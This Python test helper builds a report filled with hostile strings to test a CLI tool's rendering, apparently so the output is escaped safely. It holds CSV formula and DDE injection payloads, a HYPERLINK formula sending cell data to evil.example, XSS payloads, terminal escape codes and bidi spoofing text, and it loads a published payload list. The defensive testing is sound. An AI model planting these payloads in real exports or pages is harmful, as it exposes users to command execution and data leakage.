"""Names that want to be something else, and a report that holds them in every place of text."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path

import polars as pl

from clv_cli.frames import Finding, Severity
from clv_cli.results import Check, Column, Kind, Report, Result, Rows, Table
from tests.render.reports import sample_report

SHARED = Path(__file__).parents[3] / "shared" / "data" / "csv-torture"
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1|cmd",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '"=1+1"',
    "'=1+1",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "Foo;=1+1;",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0dcmd",
    "\uff20SUM(1)",
    "+49 30 123",
    "{=1+1}",
    "=",
    "-",
]
SCREEN = [
    "\x1b[2J\x1b[31mred",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "\x9b31m",
    "\x1b]0;title\x07",
    "back\x08\x08space",
    "two\nlines\r\nthree",
    "\u202egnp.exe",
    "zero\u200bwidth\u2060\ufeff",
    "a\u2028b\u2029c\x85d",
    "\u2066isolate\u2069",
    "\U000e0041tag",
    "hangul\u3164filler",
    "[/red] [bold]markup[/] :smile: [link=http://evil.example]x[/link]",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</td></tr></table>",
    "&lt;b&gt; &#60;",
    "[text](javascript:alert(1))",
    "![x](http://evil.example/pixel.png)",
    "`code` ``code`` ```",
    "a | b || c",
    "**bold** _it_ ~~gone~~ __x__",
    "# heading",
    "- item",
    "1. item",
    "2) item",
    "---",
    "===",
    "> quote",
    "http://evil.example www.evil.example a@evil.example",
    "<http://evil.example>",
    "[ref]: http://evil.example",
    "$x$ \\alpha \\",
    "    code",
    "-1.50",
]
OWN = [*FORMULAS, *SCREEN, *MARKUP]


def published() -> list[str]:
    """The big list of naughty strings and known CSV payloads; empty without the shared data."""
    if not SHARED.is_dir():
        return []
    naughty = json.loads((SHARED / "blns.json").read_text("utf-8"))
    injected = (SHARED / "csv-injection" / "Intruder" / "csv-payload.txt").read_text("utf-8")
    # JSON may hold half of a surrogate pair; no frame can.
    return [text for text in [*naughty, *injected.splitlines()] if _is_text(text)]


def _is_text(text: str) -> bool:
    try:
        text.encode()
    except UnicodeEncodeError:
        return False
    return True


def hostile_report(texts: list[str]) -> Report:
    """Every text as a name, an evidence, a title, a heading, a note, a finding, a reason."""
    columns = (
        Column("name", Kind.TEXT, texts[0]),
        Column("evidence", Kind.TEXT, "Evidence", rigid=True),
        Column("amount", Kind.MONEY, "Amount"),
    )
    amounts = [100 * at - 5 for at in range(len(texts))]
    frame = pl.DataFrame({"name": texts, "evidence": texts[::-1], "amount": amounts})
    reasons = tuple((at, "amount", text) for at, text in enumerate(texts))
    rows = Rows(frame, reasons=reasons, notes=tuple(texts), lead=tuple(texts))

    def finish(_: object) -> Rows:
        return rows

    table = Table("names", texts[-1], columns, (), finish)
    findings = [
        Finding(Severity.WARNING, "odd", text, text, 7, text, remedy=text) for text in texts
    ]
    return replace(
        sample_report(),
        company=texts[1],
        results=(Result(table, rows),),
        checks=(Check("total", 5, 5, f"{texts[2]} = {texts[3]}"),),
        findings=tuple(findings),
        notes=tuple(texts),
        conventions={"split.method": texts[4]},
    )
